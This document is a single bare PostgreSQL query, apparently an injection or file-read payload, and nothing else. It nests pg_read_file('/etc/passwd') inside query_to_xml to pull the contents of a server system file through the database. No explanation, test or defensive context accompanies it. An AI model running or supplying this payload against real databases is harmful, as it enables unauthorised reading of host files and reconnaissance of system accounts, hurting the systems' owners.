SELECT * FROM pg_catalog.query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, true, '') AS x
